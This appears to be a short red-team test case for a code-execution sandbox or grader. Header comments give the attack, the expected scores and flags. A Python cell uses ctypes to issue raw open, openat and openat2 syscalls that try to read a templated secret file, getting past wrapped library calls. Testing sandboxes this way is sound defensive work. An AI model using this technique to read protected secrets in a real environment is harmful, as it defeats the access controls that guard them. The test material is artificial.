# attack: Opens the secret by bare system calls: open, openat, openat2, name_to_handle.
# gain: read
# expect: q01=3 q02=3 q03=3
# flag: processes
# flag: grader-internals

# %% after q01
import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
name = b"{SECRET}"
how = struct.pack("QQQ", 0, 0, 0)
for number, arguments in (
    (2, (name, 0, 0)),
    (257, (-100, name, 0, 0)),
    (437, (-100, name, how, len(how))),
):
    handle = libc.syscall(number, *arguments)
    if handle >= 0:
        print(number, os.read(handle, 1000))
